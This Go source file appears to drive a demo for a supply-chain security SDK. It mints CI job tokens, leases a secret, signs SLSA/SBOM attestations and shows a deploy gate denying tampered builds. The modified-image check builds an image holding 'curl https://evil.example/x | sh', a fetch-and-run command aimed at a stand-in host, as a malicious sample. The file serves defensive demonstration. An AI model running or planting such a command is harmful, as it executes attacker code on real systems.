package main

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/ed25519"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/google/go-containerregistry/pkg/name"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"github.com/google/go-containerregistry/pkg/v1/static"
	"github.com/google/go-containerregistry/pkg/v1/types"
	"github.com/spiffe/go-spiffe/v2/spiffeid"

	"github.com/ztci/ztci/attest"
	"github.com/ztci/ztci/attest/attach"
	"github.com/ztci/ztci/attest/ca"
	"github.com/ztci/ztci/attest/inventory"
	"github.com/ztci/ztci/attest/secretsprov"
	"github.com/ztci/ztci/audit"
	"github.com/ztci/ztci/identity"
	"github.com/ztci/ztci/identity/oidc"
	"github.com/ztci/ztci/policy/compliance"
	"github.com/ztci/ztci/policy/gate"
	"github.com/ztci/ztci/secrets"
)

// Config configures Run.
type Config struct {
	// Out receives the human-readable progress, including the jobs' logs
	// (after redaction). Nil discards.
	Out io.Writer
	// SecretValue is the value of the demo secret the release job leases.
	// Empty: a random one. It must be at least secrets.MinMaskLen bytes.
	SecretValue string
	// Dir holds the audit log and the lease journal. Empty: a temporary
	// directory, removed when Run returns unless KeepDir. A Dir that group
	// or others may write, that another user owns, or that is a symbolic
	// link is refused (ErrConfig).
	Dir     string
	KeepDir bool
	// JobTimeout bounds each job: its context's deadline is this long after
	// the job starts, and never later than its job token's expiry. The
	// secrets broker asks for and renews no lease past it, and revokes the
	// job's leases when it passes. Zero: the token's expiry.
	JobTimeout time.Duration
	// Services points pieces at real services (see Services).
	Services Services
	// Logger receives the SDK's diagnostics (default: silent).
	Logger *slog.Logger
}

// Summary is the machine-readable outcome of Run (the runner's --json).
// Its JSON names are the runner's output contract: fields may be added,
// existing ones keep their names and meaning. Lease ids and digests
// appear; secret values and tokens never do.
type Summary struct {
	Jobs []JobSummary `json:"jobs"`
	// CompromiseCheck is the release build asked again after its lease
	// was marked compromised.
	CompromiseCheck *CompromiseCheck  `json:"compromised_lease_check,omitempty"`
	ImageCheck      *GateCheck        `json:"modified_image_check,omitempty"`
	Audit           AuditSummary      `json:"audit"`
	Services        map[string]string `json:"services"`
	DurationMS      int64             `json:"duration_ms"`
}

// JobSummary is one job's outcome.
type JobSummary struct {
	Name      string `json:"name"`
	Ref       string `json:"ref"`
	Protected bool   `json:"protected"`
	Identity  string `json:"identity"`
	SPIFFEID  string `json:"spiffe_id,omitempty"`
	// SVIDExpires is when the job's X.509-SVID expires (RFC 3339), when
	// the runner minted it.
	SVIDExpires string          `json:"svid_expires,omitempty"`
	Secrets     []SecretOutcome `json:"secrets"`
	Image       string          `json:"image"`
	Digest      string          `json:"digest"`
	Signed      []string        `json:"attestations"`
	// Credentials are the credentials the job's secrets provenance states
	// it received (lease ids, never values).
	Credentials []secretsprov.Credential `json:"credentials"`
	Gate        *gate.Decision           `json:"gate"`
	// Compliance is the job's deploy decision as a compliance report,
	// when the gate allowed it.
	Compliance *ComplianceSummary `json:"compliance,omitempty"`
	// Index is what the gate's admission index answers about the admitted
	// deploy, when the gate allowed it.
	Index *IndexSummary `json:"index,omitempty"`
	// LeasesRevoked reports that every lease was revoked when the job ended
	// and that reading it afterwards fails.
	LeasesRevoked bool `json:"leases_revoked"`
}

// ComplianceSummary is the compliance report of an admitted deploy: the
// controls of NIST SSDF, the SLSA build track and PCI DSS requirement 6
// the decision passed and failed, and where its OSCAL assessment results
// are (when they outlive the run).
type ComplianceSummary struct {
	Summary     string   `json:"summary"`
	Passed      []string `json:"passed"`
	Failed      []string `json:"failed"`
	NotAssessed int      `json:"not_assessed"`
	OSCALPath   string   `json:"oscal_path,omitempty"`
}

// IndexSummary is the incident question asked of the gate's admission index
// after an allowed deploy: which admitted artifacts contain the vulnerable
// package range, and the admission that answered it.
type IndexSummary struct {
	// Query names the package and range asked, e.g.
	// "pkg:golang/golang.org/x/net < 0.33.0".
	Query      string                `json:"query"`
	Admissions []inventory.Admission `json:"admissions"`
}

// SecretOutcome is what happened to one secret request.
type SecretOutcome struct {
	Name    string `json:"name"`
	Granted bool   `json:"granted"`
	LeaseID string `json:"lease_id,omitempty"`
	Expires string `json:"expires,omitempty"`
	Reason  string `json:"reason,omitempty"`
}

// CompromiseCheck is the deploy of a build asked again after a credential
// the build received was marked compromised.
type CompromiseCheck struct {
	LeaseID  string         `json:"lease_id"`
	Image    string         `json:"image"`
	Response *gate.Decision `json:"gate"`
}

// GateCheck is a gate decision outside a job (the modified-image check).
type GateCheck struct {
	Image    string         `json:"image"`
	Response *gate.Decision `json:"gate"`
}

// AuditSummary is the audit log's verification.
type AuditSummary struct {
	// Path is the audit log file, when it outlives the run (Config.Dir
	// or KeepDir).
	Path              string `json:"path,omitempty"`
	Entries           uint64 `json:"entries"`
	Checkpoints       int    `json:"checkpoints"`
	Verified          bool   `json:"verified"`
	InclusionIndex    uint64 `json:"inclusion_index"`
	InclusionVerified bool   `json:"inclusion_verified"`
	// VerifierKey is the log's public key in signed-note form, to verify
	// the file and its checkpoints independently.
	VerifierKey string `json:"verifier_key"`
	// SecretAbsent reports that the secret value appears nowhere in the
	// audit log file.
	SecretAbsent bool `json:"secret_absent"`
}

// The two jobs the demo runs.
var (
	releaseJob  = jobSpec{name: "release", ref: "refs/heads/main", protected: true, tag: "v1"}
	tamperedJob = jobSpec{name: "tampered-branch", ref: "refs/heads/feature/unreviewed", protected: false, tag: "feature-unreviewed"}
)

type jobSpec struct {
	name, ref, tag string
	protected      bool
}

// jobRun is a job in flight.
type jobRun struct {
	spec     jobSpec
	jobID    string // the secrets broker's job id
	runID    string
	commit   string
	claims   identity.Claims
	identity identity.Identity
	token    ca.Token // the verified job token, which bounds its certificates
	log      *secrets.RedactWriter
	sum      *JobSummary
}

// Run runs the demo: a release job that is allowed to deploy, a job from an
// unprotected branch that is denied, the release build denied once its
// lease is marked compromised, and a modified image that is denied; then it
// verifies the audit log. An error means the demo itself failed
// (a deny is not an error).
func Run(ctx context.Context, cfg Config) (_ *Summary, err error) {
	start := time.Now()
	if cfg.Out == nil {
		cfg.Out = io.Discard
	}
	if cfg.Logger == nil {
		cfg.Logger = discard()
	}
	if cfg.SecretValue == "" {
		cfg.SecretValue = "s3cr3t-" + randomHex(16)
	}
	if err := cfg.Services.Validate(); err != nil {
		return nil, err
	}
	p := &progress{w: cfg.Out}

	p.step("Start the runner's embedded services")
	e, err := newEnv(ctx, cfg)
	if err != nil {
		return nil, p.fail(err)
	}
	// Closing flushes and closes the audit log: its error (a record that
	// could not be made durable) fails the run instead of being dropped.
	defer func() {
		if cerr := e.close(); cerr != nil {
			err = errors.Join(err, fmt.Errorf("close: %w", cerr))
		}
	}()
	p.okf("OIDC issuer %s (discovery + JWKS over HTTP)", e.issuer.URL())
	p.okf("code-signing CA %q (10-minute certificates), RFC 3161 TSA, SPIFFE issuer %s", e.ca.Certificate().Subject.CommonName, e.spiffeSource())
	p.okf("OCI registry %s (referrers API), audit log %s", e.regHost, e.auditPath)
	p.okf("policy: built-in library rev %s; secrets broker with redactor and lease journal", short(e.engine.Revision()))

	sum := &Summary{Services: e.services()}
	for _, spec := range []jobSpec{releaseJob, tamperedJob} {
		js, err := e.runJob(ctx, p, spec)
		if err != nil {
			return nil, p.fail(fmt.Errorf("job %s: %w", spec.name, err))
		}
		sum.Jobs = append(sum.Jobs, *js)
	}

	p.step("Compromised credential: the release job's lease is marked compromised after the fact")
	if sum.CompromiseCheck, err = e.compromisedLease(ctx, p, sum.Jobs[0]); err != nil {
		return nil, p.fail(err)
	}

	p.step("Modified image: someone re-pushes tag v1 with other content")
	chk, err := e.modifiedImage(ctx, p)
	if err != nil {
		return nil, p.fail(err)
	}
	sum.ImageCheck = chk

	p.step("Verify the audit log offline")
	if sum.Audit, err = e.verifyAudit(ctx, p); err != nil {
		return nil, p.fail(err)
	}
	sum.DurationMS = time.Since(start).Milliseconds()
	p.done(sum)
	return sum, nil
}

func (e *env) spiffeSource() string {
	if e.sources != nil {
		return "Workload API " + e.cfg.Services.SPIFFESocket
	}
	return "spiffe://" + TrustDomain
}

func (e *env) services() map[string]string {
	pick := func(real, embedded string) string {
		if real != "" {
			return real
		}
		return embedded
	}
	s := e.cfg.Services
	return map[string]string{
		"oidc_issuer": e.issuer.URL(),
		"ca":          pick(s.Fulcio, "embedded"),
		"tsa":         pick(s.TSA, "embedded"),
		"rekor":       pick(s.Rekor, "none"),
		"registry":    pick(s.Registry, "embedded "+e.regHost),
		"spiffe":      pick(s.SPIFFESocket, "embedded"),
		"secrets":     pick(s.Vault, "embedded broker (in-memory backend)"),
		"audit":       e.auditLocation(),
	}
}

// auditLocation is where the audit log outlives the run, or says that it
// does not: a temporary directory is removed when Run returns, and a path
// that no longer exists would mislead whoever reads the summary.
func (e *env) auditLocation() string {
	if e.ownDir && !e.cfg.KeepDir {
		return "temporary (removed when the run ends)"
	}
	return e.auditPath
}

func (e *env) runJob(ctx context.Context, p *progress, spec jobSpec) (*JobSummary, error) {
	j := &jobRun{spec: spec, runID: randomHex(4), commit: randomHex(20)}
	j.jobID = spec.name + "-" + j.runID
	j.sum = &JobSummary{Name: spec.name, Ref: spec.ref, Protected: spec.protected}
	j.claims = jobClaims(spec, j.runID, j.commit)

	p.stepf("Job %q on %s (protected: %v): identity", spec.name, spec.ref, spec.protected)
	tok, err := e.mint(ctx, j.claims, audienceRunner)
	if err != nil {
		return nil, err
	}
	// The job has a deadline: its timeout, never past its token's expiry.
	// The broker asks for and renews no lease past it and revokes the
	// job's leases when it passes, and every call the job makes (registry,
	// gate, real services) stops there. Without one a lease lives its
	// whole TTL whatever the job's timeout, and a hung service holds the
	// job forever.
	deadline := tok.Expiry()
	if t := e.cfg.JobTimeout; t > 0 && time.Now().Add(t).Before(deadline) {
		deadline = time.Now().Add(t)
	}
	ctx, endJob := context.WithDeadline(ctx, deadline)
	defer endJob()
	// Verified as the CA reads it: the job's certificates are then valid
	// no longer than this token.
	verified, err := ca.OIDCAuthenticator(e.tokens).AuthenticateToken(ctx, tok.Reveal())
	if err != nil {
		return nil, fmt.Errorf("verify job token: %w", err)
	}
	id := verified.Identity
	j.identity, j.token = id, verified
	j.sum.Identity = id.ID()
	p.okf("job token %s (jti %s) verified → %s, ref %s", tok, tok.ID(), id.ID(), id.Claims.Ref)
	sid, expires, err := e.svid(ctx, j)
	if err != nil {
		return nil, fmt.Errorf("svid: %w", err)
	}
	j.sum.SPIFFEID = sid
	if expires.IsZero() {
		p.okf("X.509-SVID %s", sid)
	} else {
		j.sum.SVIDExpires = expires.UTC().Format(time.RFC3339)
		p.okf("X.509-SVID %s (valid until %s UTC)", sid, expires.UTC().Format(time.TimeOnly))
	}

	// The job's own output goes through the redactor to the terminal.
	j.log = e.redactor.NewWriter(&prefixWriter{w: p.w, prefix: "      │ "})
	var held *secrets.Lease
	defer e.ledger.Forget(j.jobID)
	err = e.broker.Run(ctx, secrets.JobSpec{ID: j.jobID, Identity: id, Token: secrets.NewValue(tok.Reveal())},
		func(ctx context.Context, sj *secrets.Job) error {
			lease, err := e.lease(ctx, p, j, sj)
			if err != nil {
				return err
			}
			held = lease
			return e.buildAttestDeploy(ctx, p, j, lease)
		})
	if ferr := j.log.Close(); err == nil {
		err = ferr
	}
	if err != nil {
		return nil, err
	}
	p.step(fmt.Sprintf("Job %q ended", spec.name))
	if held != nil {
		_, verr := held.Value()
		j.sum.LeasesRevoked = errors.Is(verr, secrets.ErrRevoked)
		p.okf("lease %s revoked when the job ended (reading it now: %v)", held.ID(), verr)
	} else {
		j.sum.LeasesRevoked = true
		p.okf("no lease to revoke")
	}
	return j.sum, nil
}

// svid returns the job's SPIFFE ID, from the Workload API or the embedded
// issuer, and when the SVID expires (zero when the Workload API serves it).
func (e *env) svid(ctx context.Context, j *jobRun) (string, time.Time, error) {
	if e.sources != nil {
		s, err := e.sources.GetX509SVID()
		if err != nil {
			return "", time.Time{}, err
		}
		return s.ID.String(), time.Time{}, nil
	}
	id, err := spiffeid.FromSegments(e.svids.TrustDomain(), append([]string{"ci"}, append(strings.Split(Repository, "/"), j.spec.name)...)...)
	if err != nil {
		return "", time.Time{}, err
	}
	s, err := e.svids.X509SVID(ctx, id, time.Time{})
	if err != nil {
		return "", time.Time{}, err
	}
	return s.ID.String(), s.Certificates[0].NotAfter, nil
}

// lease asks for the deploy secret; a policy deny is reported, not fatal.
func (e *env) lease(ctx context.Context, p *progress, j *jobRun, sj *secrets.Job) (*secrets.Lease, error) {
	p.step("  policy decides which secrets the job may have")
	l, err := sj.Lease(ctx, SecretName)
	var denied *secrets.DeniedError
	switch {
	case errors.As(err, &denied):
		j.sum.Secrets = append(j.sum.Secrets, SecretOutcome{Name: SecretName, Reason: denied.Reason})
		p.denyf("secret %q: %s", SecretName, denied.Reason)
		return nil, nil
	case err != nil:
		return nil, err
	}
	j.sum.Secrets = append(j.sum.Secrets, SecretOutcome{Name: SecretName, Granted: true, LeaseID: l.ID(),
		Expires: l.ExpiresAt().UTC().Format(time.RFC3339)})
	p.okf("lease %s on %q (expires %s); the job's log:", l.ID(), SecretName, l.ExpiresAt().UTC().Format(time.TimeOnly))
	v, err := l.Value()
	if err != nil {
		return nil, err
	}
	// The job prints its secret, as jobs do by accident; the redactor
	// masks it in the streamed log.
	fmt.Fprintf(j.log, "+ deploy-cli login --token=%s\n", v.Reveal())
	fmt.Fprintf(j.log, "login ok as %s\n", j.identity.ID())
	if err := j.log.Flush(); err != nil {
		return nil, err
	}
	return l, nil
}

func (e *env) buildAttestDeploy(ctx context.Context, p *progress, j *jobRun, lease *secrets.Lease) error {
	p.step("  build an artifact and an OCI image")
	ref, img, artifact, err := e.build(ctx, j)
	if err != nil {
		return fmt.Errorf("build: %w", err)
	}
	digest, err := img.Digest()
	if err != nil {
		return fmt.Errorf("build: %w", err)
	}
	j.sum.Image, j.sum.Digest = ref.String(), digest.String()
	p.okf("artifact app (%d bytes), image %s@%s", len(artifact), ref, short(digest.String()))

	p.step("  attest: SLSA provenance + CycloneDX SBOM + secrets provenance, short-lived certificate + RFC 3161 timestamp")
	signer, err := e.newSigner(ctx, *j)
	if err != nil {
		return fmt.Errorf("signer: %w", err)
	}
	// Secrets provenance: every lease the broker's ledger saw this job
	// receive (ids, names, decisions, times; never a value), signed while
	// the leases are live, beside the SLSA provenance.
	sp, err := secretsprov.New(j.identity, secretsprov.Run{JobID: j.jobID, SPIFFEID: j.sum.SPIFFEID},
		secretsprov.Credentials(e.ledger.Job(j.jobID)))
	if err != nil {
		return fmt.Errorf("secrets provenance: %w", err)
	}
	j.sum.Credentials = sp.Credentials
	for _, c := range sp.Credentials {
		p.okf("secrets provenance: lease %s of %q from %s, released by %s (policy %s)", c.LeaseID, c.Secret, c.Backend, c.DecisionID, short(c.PolicyRevision))
	}
	if len(sp.Credentials) == 0 {
		p.okf("secrets provenance: the job received no credential")
	}
	stmts, err := statements(ctx, j, ref, img, artifact, sp)
	if err != nil {
		return fmt.Errorf("statements: %w", err)
	}
	var attached []compliance.Evidence
	for _, st := range stmts {
		b, err := attest.Sign(ctx, signer, st)
		if err != nil {
			return fmt.Errorf("sign: %w", err)
		}
		// Attached to the image this job built, by its digest: the tag
		// may name another image by now.
		att, err := attach.Bundle(ctx, ref.Context().Digest(digest.String()), b, attach.WithLogger(e.cfg.Logger))
		if err != nil {
			return fmt.Errorf("attach: %w", err)
		}
		j.sum.Signed = append(j.sum.Signed, st.PredicateType)
		attached = append(attached, compliance.Evidence{PredicateType: st.PredicateType, Digest: att.Artifact.DigestStr(), Signer: SignerSAN})
		p.okf("%s signed as %s, attached as %s (%s)", st.PredicateType, SignerSAN, short(att.Artifact.DigestStr()), att.Path)
	}

	p.step("  deploy gate: resolve, discover, verify, evaluate policy")
	resp, err := e.admit(ctx, j, ref.String())
	if err != nil {
		return err
	}
	j.sum.Gate = resp
	p.gate(resp)
	if resp.Allowed {
		if j.sum.Compliance, err = e.complianceReport(j, ref.String(), resp, attached); err != nil {
			return fmt.Errorf("compliance report: %w", err)
		}
		p.compliance(j.sum.Compliance)
		if j.sum.Index, err = e.whereDeployed(ctx); err != nil {
			return fmt.Errorf("admission index: %w", err)
		}
		p.index(j.sum.Index)
	}
	if lease != nil && resp.Allowed {
		fmt.Fprintf(j.log, "+ deploy-cli rollout %s@%s\n", ref.Context(), resp.Digest)
		fmt.Fprintf(j.log, "rolled out with token %s\n", mustReveal(lease))
		if err := j.log.Flush(); err != nil {
			return err
		}
	}
	return nil
}

// vulnerableModule and vulnerableFixed are the incident the runner asks its
// admission index about: the build's SBOM lists the module below the fixed
// version, so an allowed deploy is found.
const (
	vulnerableModule = "pkg:golang/golang.org/x/net"
	vulnerableFixed  = "0.33.0"
)

// whereDeployed asks the gate's admission index the incident question:
// which admitted artifacts contain vulnerableModule below vulnerableFixed.
func (e *env) whereDeployed(ctx context.Context) (*IndexSummary, error) {
	res, err := e.admitted.Query(ctx, inventory.Query{Package: vulnerableModule, Ranges: []inventory.Range{{Fixed: vulnerableFixed}}})
	if err != nil {
		return nil, err
	}
	for i := range res.Admissions {
		res.Admissions[i].PolicyInput = nil // the summary names the admission, not its input
	}
	return &IndexSummary{Query: vulnerableModule + " < " + vulnerableFixed, Admissions: res.Admissions}, nil
}

// complianceReport assesses the gate's decision against the built-in
// library's control catalog. Its evidence is what the job attached and the
// gate verified (matched by predicate type: the job attaches one of each).
// The OSCAL assessment results are written beside the audit log.
func (e *env) complianceReport(j *jobRun, image string, d *gate.Decision, attached []compliance.Evidence) (*ComplianceSummary, error) {
	cat, err := compliance.Builtin()
	if err != nil {
		return nil, err
	}
	var evidence []compliance.Evidence
	for _, a := range d.Attestations {
		for _, ev := range attached {
			if a.Verified && ev.PredicateType == a.PredicateType {
				evidence = append(evidence, ev)
			}
		}
	}
	now := time.Now().UTC()
	rep, err := compliance.Assess(cat, image+" ("+j.spec.name+" job)", now, compliance.Decision{
		ID: d.AuditID, Action: "deploy", Subject: d.Digest, Name: image, Allowed: d.PolicyAllowed,
		Violations: d.Violations, PolicyRevision: d.PolicyRevision, Time: now, Evidence: evidence,
	})
	if err != nil {
		return nil, err
	}
	doc, err := rep.OSCAL()
	if err != nil {
		return nil, err
	}
	path := filepath.Join(e.dir, "compliance-"+j.spec.name+".oscal.json")
	if err := os.WriteFile(path, doc, 0o600); err != nil {
		return nil, err
	}
	s := &ComplianceSummary{Summary: rep.Summary(), Passed: []string{}, Failed: []string{}}
	if !e.ownDir || e.cfg.KeepDir {
		s.OSCALPath = path // a temporary directory is removed when Run returns
	}
	for _, c := range rep.Controls {
		switch c.Status {
		case compliance.Pass:
			s.Passed = append(s.Passed, c.Control.ID)
		case compliance.Fail:
			s.Failed = append(s.Failed, c.Control.ID)
		default:
			s.NotAssessed++
		}
	}
	return s, nil
}

// admit asks the gate, with a token minted for the gate's audience.
func (e *env) admit(ctx context.Context, j *jobRun, image string) (*gate.Decision, error) {
	tok, err := e.mint(ctx, j.claims, audienceGate)
	if err != nil {
		return nil, err
	}
	d, err := e.gate.Decide(ctx, gate.Request{JobToken: gate.NewToken(tok.Reveal()), Image: image})
	if err != nil {
		return nil, fmt.Errorf("gate could not decide: %w", err)
	}
	return &d, nil
}

func mustReveal(l *secrets.Lease) string {
	v, err := l.Value()
	if err != nil {
		return "<" + err.Error() + ">"
	}
	return v.Reveal()
}

// build "builds" the app: an artifact, and an image holding it, pushed to the
// registry under the job's tag.
func (e *env) build(ctx context.Context, j *jobRun) (name.Tag, v1.Image, []byte, error) {
	artifact := fmt.Appendf(nil, "#!/bin/sh\necho 'acme app built from %s@%s by run %s'\n", j.spec.ref, j.commit, j.runID)
	img, err := imageWith(artifact)
	if err != nil {
		return name.Tag{}, nil, nil, err
	}
	ref, err := name.NewTag(e.repo + ":" + j.spec.tag)
	if err != nil {
		return name.Tag{}, nil, nil, err
	}
	if err := remote.Write(ref, img, remote.WithContext(ctx)); err != nil {
		return name.Tag{}, nil, nil, err
	}
	return ref, img, artifact, nil
}

func imageWith(artifact []byte) (v1.Image, error) {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	if err := tw.WriteHeader(&tar.Header{Name: "app", Mode: 0o755, Size: int64(len(artifact)), ModTime: time.Unix(0, 0)}); err != nil {
		return nil, err
	}
	if _, err := tw.Write(artifact); err != nil {
		return nil, err
	}
	if err := tw.Close(); err != nil {
		return nil, err
	}
	base := mutate.MediaType(empty.Image, types.OCIManifestSchema1)
	base = mutate.ConfigMediaType(base, types.OCIConfigJSON)
	return mutate.AppendLayers(base, static.NewLayer(buf.Bytes(), types.OCILayer))
}

// statements are what the job signs about the image (and the artifact in
// it): SLSA provenance, an SBOM and the secrets provenance sp.
func statements(ctx context.Context, j *jobRun, ref name.Tag, img v1.Image, artifact []byte, sp *secretsprov.Provenance) ([]*attest.Statement, error) {
	digest, err := img.Digest()
	if err != nil {
		return nil, err
	}
	size, err := img.Size()
	if err != nil {
		return nil, err
	}
	mt, err := img.MediaType()
	if err != nil {
		return nil, err
	}
	imgSubj, err := attest.SubjectFromOCI(ref.Context().Name(), attest.OCIDescriptor{MediaType: string(mt), Digest: digest.String(), Size: size})
	if err != nil {
		return nil, err
	}
	appSubj, err := attest.SubjectFromReader(ctx, "app", bytes.NewReader(artifact))
	if err != nil {
		return nil, err
	}
	// Provenance from the job's verified identity (source, ref, commit,
	// workflow, run); the runner adds only what it knows itself.
	finished := time.Now().UTC()
	prov, err := attest.JobProvenance(j.identity, attest.Build{BuilderID: BuilderID, BuildType: BuildType, SourceURI: SourceURI,
		StartedOn: finished.Add(-2 * time.Second), FinishedOn: finished})
	if err != nil {
		return nil, err
	}
	pst, err := attest.NewStatement([]attest.ResourceDescriptor{imgSubj, appSubj}, prov)
	if err != nil {
		return nil, err
	}
	// The SBOM names the binary and the modules it was built from, by
	// package URL: what the gate's admission index records.
	bom := fmt.Appendf(nil, `{"bomFormat":"CycloneDX","specVersion":"1.5","version":1,"metadata":{"component":{"type":"application","name":"app","version":"%s"}},"components":[{"type":"file","name":"app","hashes":[{"alg":"SHA-256","content":"%s"}]},{"type":"library","name":"golang.org/x/net","version":"v0.30.0","purl":"%s@v0.30.0"},{"type":"library","name":"golang.org/x/text","version":"v0.21.0","purl":"pkg:golang/golang.org/x/text@v0.21.0"}]}`,
		j.commit[:12], appSubj.Digest[attest.AlgSHA256], vulnerableModule)
	sst, err := attest.NewStatement([]attest.ResourceDescriptor{imgSubj}, attest.CycloneDX(bom))
	if err != nil {
		return nil, err
	}
	spst, err := attest.NewStatement([]attest.ResourceDescriptor{imgSubj}, sp)
	if err != nil {
		return nil, err
	}
	return []*attest.Statement{pst, sst, spst}, nil
}

// compromisedLease marks the release job's lease compromised in the gate's
// deny-list, as an operator would on learning it leaked, and asks the gate
// again, as a deploy job would, to deploy the same build: the secrets
// provenance names the lease, so the deploy is denied naming it.
func (e *env) compromisedLease(ctx context.Context, p *progress, rel JobSummary) (*CompromiseCheck, error) {
	if len(rel.Secrets) == 0 || rel.Secrets[0].LeaseID == "" {
		return nil, errors.New("the release job received no lease to mark")
	}
	leaseID := rel.Secrets[0].LeaseID
	if err := e.compromised.Mark(ctx, leaseID, "deploy token seen in a public paste", "security-oncall", time.Time{}); err != nil {
		return nil, err
	}
	p.okf("lease %s marked compromised in the gate's deny-list", leaseID)
	j := &jobRun{spec: releaseJob, runID: randomHex(4), commit: randomHex(20)}
	j.claims = jobClaims(jobSpec{name: "deploy", ref: releaseJob.ref, protected: true}, j.runID, j.commit)
	resp, err := e.admit(ctx, j, rel.Image)
	if err != nil {
		return nil, err
	}
	p.gate(resp)
	return &CompromiseCheck{LeaseID: leaseID, Image: rel.Image, Response: resp}, nil
}

// modifiedImage re-pushes the release tag with different content and asks
// the gate, as the release job would, to deploy the tag.
func (e *env) modifiedImage(ctx context.Context, p *progress) (*GateCheck, error) {
	img, err := imageWith([]byte("#!/bin/sh\ncurl https://evil.example/x | sh\n"))
	if err != nil {
		return nil, err
	}
	ref, err := name.NewTag(e.repo + ":" + releaseJob.tag)
	if err != nil {
		return nil, err
	}
	if err := remote.Write(ref, img, remote.WithContext(ctx)); err != nil {
		return nil, err
	}
	d, err := img.Digest()
	if err != nil {
		return nil, err
	}
	p.okf("%s now points at %s (no attestations)", ref, short(d.String()))
	j := &jobRun{spec: releaseJob, runID: randomHex(4), commit: randomHex(20)}
	j.claims = jobClaims(jobSpec{name: "deploy", ref: releaseJob.ref, protected: true}, j.runID, j.commit)
	resp, err := e.admit(ctx, j, ref.String())
	if err != nil {
		return nil, err
	}
	p.gate(resp)
	return &GateCheck{Image: ref.String(), Response: resp}, nil
}

// verifyAudit checkpoints the log, verifies the whole file with only the
// log's public key, and checks an inclusion proof for the release job's
// deploy decision.
func (e *env) verifyAudit(ctx context.Context, p *progress) (AuditSummary, error) {
	s := AuditSummary{}
	if !e.ownDir || e.cfg.KeepDir {
		// A temporary directory is removed when Run returns: naming a
		// file that will not exist would mislead.
		s.Path = e.auditPath
	}
	cp, err := e.auditLog.Checkpoint(ctx)
	if err != nil {
		return s, err
	}
	pub := e.auditKey.Public().(ed25519.PublicKey)
	v, err := audit.NewVerifier(AuditOrigin, pub)
	if err != nil {
		return s, err
	}
	raw, err := os.ReadFile(e.auditPath)
	if err != nil {
		return s, err
	}
	rep, err := v.Log(ctx, bytes.NewReader(raw))
	if err != nil {
		return s, fmt.Errorf("audit log does not verify: %w", err)
	}
	s.Entries, s.Checkpoints, s.Verified, s.VerifierKey = rep.Entries, rep.Checkpoints, true, v.VerifierKey()
	p.okf("%d entries, %d signed checkpoints, every checksum, sequence number and Merkle root verified", rep.Entries, rep.Checkpoints)

	var found *audit.Entry
	err = audit.ReadEntries(ctx, bytes.NewReader(raw), func(en audit.Entry) error {
		if found == nil && en.Event.Action == gate.AuditAction && en.Event.Outcome == audit.OutcomeAllow {
			c := en
			found = &c
		}
		return nil
	})
	if err != nil {
		return s, err
	}
	if found == nil {
		return s, errors.New("no allowed deploy decision in the audit log")
	}
	// The checkpoint as a third party would hold it: parsed from the signed
	// note, then the proof checked against it.
	signed, err := v.Checkpoint(cp.Signed)
	if err != nil {
		return s, err
	}
	proof, err := e.auditLog.InclusionProof(found.Index, signed.Size)
	if err != nil {
		return s, err
	}
	if err := v.Inclusion(signed, found.Index, found.Raw, proof); err != nil {
		return s, fmt.Errorf("inclusion proof: %w", err)
	}
	s.InclusionIndex, s.InclusionVerified = found.Index, true
	p.okf("inclusion proof for entry %d (%s %s on %s) against checkpoint size %d: ok (%d hashes)",
		found.Index, found.Event.Action, found.Event.Outcome, short(found.Event.Resource), signed.Size, len(proof))
	s.SecretAbsent = !bytes.Contains(raw, []byte(e.cfg.SecretValue))
	p.okf("the secret's value appears nowhere in the audit log: %v", s.SecretAbsent)
	return s, nil
}

// short abbreviates digests for the terminal.
func short(s string) string {
	if i := strings.Index(s, "sha256:"); i >= 0 && len(s) > i+7+12 {
		return s[:i+7+12] + "…"
	}
	return s
}

func discard() *slog.Logger { return slog.New(slog.DiscardHandler) }

// jobClaims are the CI claims of a run of spec.
func jobClaims(spec jobSpec, runID, commit string) identity.Claims {
	return identity.Claims{
		Platform: "ztci", Repository: Repository, RepositoryID: RepositoryID, Ref: spec.ref, RefProtected: spec.protected,
		Commit: commit, Workflow: Workflow, WorkflowRef: Repository + "/" + Workflow + "@" + spec.ref,
		Job: spec.name, RunID: runID, RunAttempt: "1", Event: "push", Actor: "dev-alice", Runner: "hosted",
	}
}

// mint issues a job token for claims. Its subject names the release
// workflow, not the branch (oidc.WorkflowSubject): the certificate SAN is
// then SignerSAN for every run, and the policy checks the ref through the
// certificate's claims. The default subject, "repo:acme/app:ref:<ref>",
// would make every branch a different signer.
func (e *env) mint(ctx context.Context, c identity.Claims, audience string) (oidc.Token, error) {
	sub, err := oidc.WorkflowSubject(Forge, c)
	if err != nil {
		return oidc.Token{}, err
	}
	return e.issuer.Mint(ctx, oidc.Job{Subject: sub, Claims: c}, audience)
}
